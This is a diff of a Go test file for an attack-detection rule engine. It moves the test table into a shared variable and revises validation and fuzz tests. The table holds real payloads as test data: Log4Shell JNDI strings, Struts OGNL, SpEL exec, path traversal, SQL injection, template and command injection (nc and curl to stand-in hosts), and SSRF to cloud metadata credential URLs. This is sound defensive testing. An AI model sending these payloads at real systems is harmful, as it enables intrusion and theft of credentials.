@@ -51,99 +51,104 @@ func spanWith(field, v string) telemetry.Span {
 	return sp
 }
 
+// ruleCases are real payloads per class and benign lookalikes that must
+// not fire.
+var ruleCases = []struct {
+	name, field, value string
+	want               string // rule id, "" for none
+}{
+	// JNDI / expression injection: payloads from Log4Shell scans,
+	// Struts2 (CVE-2017-5638) and Spring4Shell (CVE-2022-22965).
+	{"jndi plain", "user_agent.original", "${jndi:ldap://45.83.193.150:1389/Exploit}", "jndi-lookup"},
+	{"jndi in header", "http.request.header.x-api-version", "${jndi:rmi://attacker.example/a}", "jndi-lookup"},
+	{"jndi lower obfuscation", "url.query", "q=${${lower:j}ndi:${lower:l}dap://x.example/a}", "jndi-lookup"},
+	{"jndi ::- obfuscation", "http.request.header.referer", "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x.example/p}", "jndi-lookup"},
+	{"jndi env default", "user_agent.original", "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap://x/a}", "jndi-lookup"},
+	{"jndi url-encoded", "url.query", "x=%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D", "jndi-lookup"},
+	{"jndi double-encoded", "url.query", "x=%2524%257Bjndi%253Adns%253A%252F%252Fx%257D", "jndi-lookup"},
+	{"jndi upper case", "user_agent.original", "${JNDI:LDAP://X.EXAMPLE/A}", "jndi-lookup"},
+	{"jndi in db query", "db.query.text", "INSERT INTO audit (ua) VALUES ('${jndi:ldap://x/a}')", "jndi-lookup"},
+	{"ognl struts content-type", "http.request.header.content-type", "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm))}", "ognl-expression"},
+	{"spel T()", "url.query", "name=#{T(java.lang.Runtime).getRuntime().exec('id')}", "spel-expression"},
+	{"spel T with a space", "url.query", "x=T (java.lang.Runtime).getRuntime().exec('id')", "spel-expression"},
+	{"spring4shell", "url.query", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x", "spel-expression"},
+
+	// Path traversal.
+	{"dot-dot-slash", "url.path", "/static/../../../../etc/hosts", "path-traversal"},
+	{"encoded traversal", "url.path", "/static/%2e%2e%2f%2e%2e%2fapp.yaml", "path-traversal"},
+	{"double-encoded traversal", "url.path", "/download/%252e%252e%252fsecret", "path-traversal"},
+	{"overlong utf-8", "url.path", "/scripts/..%c0%af..%c0%afwinnt/system32/cmd.exe", "path-traversal"},
+	{"backslash traversal", "url.query", `file=..\..\windows\win.ini`, "path-traversal"},
+	{"query traversal", "url.query", "file=../../config.php", "path-traversal"},
+	{"etc passwd", "url.query", "page=/etc/passwd", "sensitive-file"},
+
+	// SQL injection in parameters.
+	{"tautology", "url.query", "id=1' OR '1'='1", "sqli-tautology"},
+	{"tautology tab", "url.query", "id=1 or%091=1", "sqli-tautology"},
+	{"tautology numeric", "url.query", "id=1 or 1=1--", "sqli-tautology"},
+	{"tautology plus-encoded", "url.query", "user=admin'+or+'a'%3D'a", "sqli-tautology"},
+	{"union select", "url.query", "id=-1 UNION ALL SELECT username,password FROM users--", "sqli-union"},
+	{"union comment obfuscation", "url.query", "id=1/**/UNION/**/SELECT/**/1,2,3", "sqli-union"},
+	{"stacked drop", "url.query", "id=1; DROP TABLE users --", "sqli-stacked"},
+	{"sleep", "url.query", "id=1 AND SLEEP(5)", "sqli-timing"},
+	{"benchmark", "url.query", "id=1 and benchmark(5000000,md5(1))", "sqli-timing"},
+	{"waitfor", "url.query", "id=1'; WAITFOR DELAY '0:0:5'--", "sqli-timing"},
+	{"db tautology", "db.query.text", "SELECT * FROM users WHERE name = 'x' OR '1'='1'", "sqli-db-tautology"},
+	{"db union", "db.query.text", "SELECT name FROM products WHERE id = 1 UNION SELECT NULL, password FROM users", "sqli-db-union"},
+	{"db sleep", "db.query.text", "SELECT * FROM products WHERE id = 1 AND SLEEP(5)", "sqli-db-timing"},
+	{"db stacked drop", "db.query.text", "SELECT * FROM t WHERE id = 1; DROP TABLE users", "sqli-db-stacked"},
+
+	// Template injection.
+	{"jinja arithmetic", "url.query", "name={{7*7}}", "template-injection"},
+	{"jinja class walk", "url.query", "name={{''.__class__.__mro__[1].__subclasses__()}}", "template-injection"},
+	{"el arithmetic", "url.query", "q=${7*7}", "template-injection"},
+	{"erb", "url.query", "q=<%= 7*7 %>", "template-injection"},
+	{"jinja encoded", "url.query", "name=%7B%7B7*7%7D%7D", "template-injection"},
+
+	// Command injection.
+	{"semicolon id", "url.query", "host=127.0.0.1; id", "command-injection"},
+	{"command substitution", "url.query", "host=$(whoami)", "command-injection"},
+	{"backticks", "url.query", "host=`uname -a`", "command-injection"},
+	{"pipe nc", "url.query", "ip=1.1.1.1 | nc 10.0.0.1 4444", "command-injection"},
+	{"and curl", "url.query", "ip=1.1.1.1 && curl http://x.example/s.sh", "command-injection"},
+	{"encoded semicolon cat", "url.query", "file=x%3Bcat%20/etc/shadow", "command-injection"},
+	{"shellshock ua", "user_agent.original", "() { :; }; /bin/bash -c 'id'", "command-injection"},
+
+	// SSRF to cloud metadata.
+	{"aws imds in query", "url.query", "url=http://169.254.169.254/latest/meta-data/iam/security-credentials/", "ssrf-cloud-metadata"},
+	{"gcp metadata", "url.query", "target=http%3A%2F%2Fmetadata.google.internal%2FcomputeMetadata%2Fv1%2F", "ssrf-cloud-metadata"},
+	{"aws ipv6 imds", "url.query", "u=http://[fd00:ec2::254]/latest/", "ssrf-cloud-metadata"},
+	{"alibaba", "url.query", "u=http://100.100.100.200/latest/meta-data/", "ssrf-cloud-metadata"},
+	{"decimal ip", "url.query", "u=http://2852039166/latest/", "ssrf-cloud-metadata"},
+	{"outbound call to imds", "server.address", "169.254.169.254", "ssrf-cloud-metadata"},
+
+	// Benign lookalikes that must not fire.
+	{"benign path", "url.path", "/api/v1/products/42", ""},
+	{"benign dotted version", "url.path", "/docs/v1.2..v1.3/compare", ""},
+	{"benign file name dots", "url.path", "/files/report..final.pdf", ""},
+	{"benign browser ua", "user_agent.original", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36", ""},
+	{"benign ua with id", "user_agent.original", "Mozilla/5.0 (compatible; idbot/1.0; +http://id.example/bot)", ""},
+	{"benign search or", "url.query", "q=cats or dogs", ""},
+	{"benign search union", "url.query", "q=european union selection", ""},
+	{"benign semicolon", "url.query", "sort=name;desc&fields=id;title", ""},
+	{"benign template name", "url.query", "greeting={{name}}", ""},
+	{"benign dollar", "url.query", "price=$100&expr=${total}", ""},
+	{"benign pipe", "url.query", "filter=a|b|c", ""},
+	{"benign sleep word", "url.query", "q=sleep well", ""},
+	{"benign jndi word", "url.query", "q=what is jndi", ""},
+	{"benign encoded slash", "url.query", "next=%2Fhome%2Fdashboard", ""},
+	{"benign sql", "db.query.text", "SELECT id, name FROM products WHERE category = ? OR featured = ? ORDER BY name", ""},
+	{"benign sql union", "db.query.text", "SELECT id FROM a WHERE x = ? UNION SELECT id FROM b WHERE y = ?", ""},
+	{"benign sql statement list", "db.query.text", "BEGIN; UPDATE stock SET n = n - 1 WHERE id = ?; COMMIT", ""},
+	{"benign metadata word", "url.query", "q=google metadata internal docs", ""},
+	{"benign private host", "server.address", "10.0.3.7", ""},
+	{"benign ip in query", "url.query", "ip=169.254.1.1", ""},
+	{"benign percent", "url.query", "discount=50%25&q=100%", ""},
+}
+
 func TestRules(t *testing.T) {
 	rules := mustRules(t)
-	tests := []struct {
-		name, field, value string
-		want               string // rule id, "" for none
-	}{
-		// JNDI / expression injection: payloads from Log4Shell scans,
-		// Struts2 (CVE-2017-5638) and Spring4Shell (CVE-2022-22965).
-		{"jndi plain", "user_agent.original", "${jndi:ldap://45.83.193.150:1389/Exploit}", "jndi-lookup"},
-		{"jndi in header", "http.request.header.x-api-version", "${jndi:rmi://attacker.example/a}", "jndi-lookup"},
-		{"jndi lower obfuscation", "url.query", "q=${${lower:j}ndi:${lower:l}dap://x.example/a}", "jndi-lookup"},
-		{"jndi ::- obfuscation", "http.request.header.referer", "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x.example/p}", "jndi-lookup"},
-		{"jndi env default", "user_agent.original", "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap://x/a}", "jndi-lookup"},
-		{"jndi url-encoded", "url.query", "x=%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D", "jndi-lookup"},
-		{"jndi double-encoded", "url.query", "x=%2524%257Bjndi%253Adns%253A%252F%252Fx%257D", "jndi-lookup"},
-		{"jndi upper case", "user_agent.original", "${JNDI:LDAP://X.EXAMPLE/A}", "jndi-lookup"},
-		{"jndi in db query", "db.query.text", "INSERT INTO audit (ua) VALUES ('${jndi:ldap://x/a}')", "jndi-lookup"},
-		{"ognl struts content-type", "http.request.header.content-type", "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm))}", "ognl-expression"},
-		{"spel T()", "url.query", "name=#{T(java.lang.Runtime).getRuntime().exec('id')}", "spel-expression"},
-		{"spring4shell", "url.query", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x", "spel-expression"},
-
-		// Path traversal.
-		{"dot-dot-slash", "url.path", "/static/../../../../etc/hosts", "path-traversal"},
-		{"encoded traversal", "url.path", "/static/%2e%2e%2f%2e%2e%2fapp.yaml", "path-traversal"},
-		{"double-encoded traversal", "url.path", "/download/%252e%252e%252fsecret", "path-traversal"},
-		{"overlong utf-8", "url.path", "/scripts/..%c0%af..%c0%afwinnt/system32/cmd.exe", "path-traversal"},
-		{"backslash traversal", "url.query", `file=..\..\windows\win.ini`, "path-traversal"},
-		{"query traversal", "url.query", "file=../../config.php", "path-traversal"},
-		{"etc passwd", "url.query", "page=/etc/passwd", "sensitive-file"},
-
-		// SQL injection in parameters.
-		{"tautology", "url.query", "id=1' OR '1'='1", "sqli-tautology"},
-		{"tautology numeric", "url.query", "id=1 or 1=1--", "sqli-tautology"},
-		{"tautology plus-encoded", "url.query", "user=admin'+or+'a'%3D'a", "sqli-tautology"},
-		{"union select", "url.query", "id=-1 UNION ALL SELECT username,password FROM users--", "sqli-union"},
-		{"union comment obfuscation", "url.query", "id=1/**/UNION/**/SELECT/**/1,2,3", "sqli-union"},
-		{"stacked drop", "url.query", "id=1; DROP TABLE users --", "sqli-stacked"},
-		{"sleep", "url.query", "id=1 AND SLEEP(5)", "sqli-timing"},
-		{"benchmark", "url.query", "id=1 and benchmark(5000000,md5(1))", "sqli-timing"},
-		{"waitfor", "url.query", "id=1'; WAITFOR DELAY '0:0:5'--", "sqli-timing"},
-		{"db tautology", "db.query.text", "SELECT * FROM users WHERE name = 'x' OR '1'='1'", "sqli-db-tautology"},
-		{"db union", "db.query.text", "SELECT name FROM products WHERE id = 1 UNION SELECT NULL, password FROM users", "sqli-db-union"},
-		{"db sleep", "db.query.text", "SELECT * FROM products WHERE id = 1 AND SLEEP(5)", "sqli-db-timing"},
-		{"db stacked drop", "db.query.text", "SELECT * FROM t WHERE id = 1; DROP TABLE users", "sqli-db-stacked"},
-
-		// Template injection.
-		{"jinja arithmetic", "url.query", "name={{7*7}}", "template-injection"},
-		{"jinja class walk", "url.query", "name={{''.__class__.__mro__[1].__subclasses__()}}", "template-injection"},
-		{"el arithmetic", "url.query", "q=${7*7}", "template-injection"},
-		{"erb", "url.query", "q=<%= 7*7 %>", "template-injection"},
-		{"jinja encoded", "url.query", "name=%7B%7B7*7%7D%7D", "template-injection"},
-
-		// Command injection.
-		{"semicolon id", "url.query", "host=127.0.0.1; id", "command-injection"},
-		{"command substitution", "url.query", "host=$(whoami)", "command-injection"},
-		{"backticks", "url.query", "host=`uname -a`", "command-injection"},
-		{"pipe nc", "url.query", "ip=1.1.1.1 | nc 10.0.0.1 4444", "command-injection"},
-		{"and curl", "url.query", "ip=1.1.1.1 && curl http://x.example/s.sh", "command-injection"},
-		{"encoded semicolon cat", "url.query", "file=x%3Bcat%20/etc/shadow", "command-injection"},
-		{"shellshock ua", "user_agent.original", "() { :; }; /bin/bash -c 'id'", "command-injection"},
-
-		// SSRF to cloud metadata.
-		{"aws imds in query", "url.query", "url=http://169.254.169.254/latest/meta-data/iam/security-credentials/", "ssrf-cloud-metadata"},
-		{"gcp metadata", "url.query", "target=http%3A%2F%2Fmetadata.google.internal%2FcomputeMetadata%2Fv1%2F", "ssrf-cloud-metadata"},
-		{"aws ipv6 imds", "url.query", "u=http://[fd00:ec2::254]/latest/", "ssrf-cloud-metadata"},
-		{"alibaba", "url.query", "u=http://100.100.100.200/latest/meta-data/", "ssrf-cloud-metadata"},
-		{"decimal ip", "url.query", "u=http://2852039166/latest/", "ssrf-cloud-metadata"},
-		{"outbound call to imds", "server.address", "169.254.169.254", "ssrf-cloud-metadata"},
-
-		// Benign lookalikes that must not fire.
-		{"benign path", "url.path", "/api/v1/products/42", ""},
-		{"benign dotted version", "url.path", "/docs/v1.2..v1.3/compare", ""},
-		{"benign file name dots", "url.path", "/files/report..final.pdf", ""},
-		{"benign browser ua", "user_agent.original", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36", ""},
-		{"benign ua with id", "user_agent.original", "Mozilla/5.0 (compatible; idbot/1.0; +http://id.example/bot)", ""},
-		{"benign search or", "url.query", "q=cats or dogs", ""},
-		{"benign search union", "url.query", "q=european union selection", ""},
-		{"benign semicolon", "url.query", "sort=name;desc&fields=id;title", ""},
-		{"benign template name", "url.query", "greeting={{name}}", ""},
-		{"benign dollar", "url.query", "price=$100&expr=${total}", ""},
-		{"benign pipe", "url.query", "filter=a|b|c", ""},
-		{"benign sleep word", "url.query", "q=sleep well", ""},
-		{"benign jndi word", "url.query", "q=what is jndi", ""},
-		{"benign encoded slash", "url.query", "next=%2Fhome%2Fdashboard", ""},
-		{"benign sql", "db.query.text", "SELECT id, name FROM products WHERE category = ? OR featured = ? ORDER BY name", ""},
-		{"benign sql union", "db.query.text", "SELECT id FROM a WHERE x = ? UNION SELECT id FROM b WHERE y = ?", ""},
-		{"benign sql statement list", "db.query.text", "BEGIN; UPDATE stock SET n = n - 1 WHERE id = ?; COMMIT", ""},
-		{"benign metadata word", "url.query", "q=google metadata internal docs", ""},
-		{"benign private host", "server.address", "10.0.3.7", ""},
-		{"benign ip in query", "url.query", "ip=169.254.1.1", ""},
-		{"benign percent", "url.query", "discount=50%25&q=100%", ""},
-	}
-	for _, tt := range tests {
+	for _, tt := range ruleCases {
 		t.Run(tt.name, func(t *testing.T) {
 			sp := spanWith(tt.field, tt.value)
 			var got []string
@@ -218,7 +223,7 @@ func TestRuleAlertRedacted(t *testing.T) {
 }
 
 func TestCompileRulesErrors(t *testing.T) {
-	good := Rule{ID: "x", Class: "c", Fields: []Field{FieldURLPath}, Prefilter: []string{"a"}, Pattern: "a", Severity: High}
+	good := Rule{ID: "x", Class: "c", Fields: []Field{FieldURLPath}, Pattern: "a", Severity: High}
 	tests := []struct {
 		name string
 		mod  func(*Rule)
@@ -227,8 +232,9 @@ func TestCompileRulesErrors(t *testing.T) {
 		{"no id", func(r *Rule) { r.ID = "" }, "id is empty"},
 		{"no class", func(r *Rule) { r.Class = "" }, "class is empty"},
 		{"no fields", func(r *Rule) { r.Fields = nil }, "no fields"},
-		{"no prefilter", func(r *Rule) { r.Prefilter = nil }, "no prefilter"},
-		{"upper-case prefilter", func(r *Rule) { r.Prefilter = []string{"A"} }, "lower case"},
+		{"pattern starting with anything", func(r *Rule) { r.Pattern = `\w+=1` }, "can start with anything"},
+		{"pattern matching empty", func(r *Rule) { r.Pattern = `a?` }, "can start with anything or be empty"},
+		{"upper-case literal", func(r *Rule) { r.Pattern = `Select` }, "upper-case"},
 		{"bad field", func(r *Rule) { r.Fields = []Field{"http.body"} }, `unknown field "http.body"`},
 		{"bad severity", func(r *Rule) { r.Severity = "urgent" }, `severity "urgent"`},
 		{"bad pattern", func(r *Rule) { r.Pattern = "(" }, "pattern: error parsing regexp"},
@@ -243,8 +249,8 @@ func TestCompileRulesErrors(t *testing.T) {
 			if !errors.Is(err, ErrInvalidRule) || !strings.Contains(err.Error(), "rules[0]") || !strings.Contains(err.Error(), tt.want) {
 				t.Fatalf("CompileRules = %v, want rules[0] ... %s", err, tt.want)
 			}
-			if len(r.byField[FieldURLPath]) != 1 {
-				t.Errorf("the good rule was not kept: %d rules", len(r.byField[FieldURLPath]))
+			if len(r.rules) != 1 {
+				t.Errorf("the good rule was not kept: %d rules", len(r.rules))
 			}
 		})
 	}
@@ -261,12 +267,12 @@ func FuzzDecode(f *testing.F) {
 	if err != nil {
 		f.Fatal(err)
 	}
+	unanchored := unanchoredPatterns(rules)
 	f.Fuzz(func(t *testing.T, s string) {
 		d := decode(s, true)
 		if len(d) > len(s) {
 			t.Errorf("decode(%q) = %q grew", s, d)
 		}
-		sp := spanWith("url.query", s)
-		rules.Scan(&sp, func(Hit) {})
+		checkEquivalent(t, rules, unanchored, FieldURLQuery, s)
 	})
 }
